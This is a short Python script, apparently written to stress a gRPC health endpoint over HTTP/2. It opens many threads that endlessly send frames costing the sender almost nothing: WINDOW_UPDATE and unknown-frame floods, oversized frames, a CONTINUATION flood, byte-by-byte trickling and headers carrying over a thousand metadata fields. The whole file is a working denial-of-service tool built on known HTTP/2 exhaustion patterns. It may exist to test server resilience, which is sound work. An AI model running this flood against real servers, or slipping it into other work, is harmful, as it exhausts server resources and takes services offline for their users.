"""frames ADDRESS CONNECTIONS KIND: frames that cost their sender nothing, on so many connections, without end."""

import contextlib
import struct
import sys
import threading

import h2
import stranger

address, connections, kind = sys.argv[1], int(sys.argv[2]), sys.argv[3]
stranger.become()
UNKNOWN, WINDOW_UPDATE, WHOLE = 0xFA, 8, 16 << 10
HEADERS = h2.headers(b"/grpc.health.v1.Health/Check")
MANY_NAMES = h2.headers(b"/grpc.health.v1.Health/Check", *((b"a%d" % number, b"v") for number in range(1100)))
#: The bytes that are sent once, and those that follow again and again.
KINDS = {
    "window-update": (b"", h2.frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 5000),
    "unknown": (b"", h2.frame(UNKNOWN, 0, 0) * 5000),
    "large": (b"", h2.frame(UNKNOWN, 0, 0, bytes(4 << 20))),
    "continuation": (h2.frame(h2.HEADERS, 0, 1, HEADERS), h2.frame(h2.CONTINUATION, 0, 1, b"\x90" * WHOLE) * 16),
    "byte-by-byte": (b"", h2.frame(UNKNOWN, 0, 0, bytes(WHOLE))),
    "metadata": (b"", b""),
}


def send() -> None:
    before, then = KINDS[kind]
    number = 1
    while True:
        with contextlib.suppress(OSError), h2.connect(address) as peer:
            peer.settimeout(None)
            peer.sendall(before)
            while True:
                if kind == "byte-by-byte":
                    for at in range(len(then)):
                        peer.send(then[at : at + 1])
                elif kind == "metadata":
                    peer.sendall(h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, number, MANY_NAMES))
                    number += 2
                else:
                    peer.sendall(then)


threads = [threading.Thread(target=send) for _ in range(connections)]
for one in threads:
    one.start()
stranger.at_work()
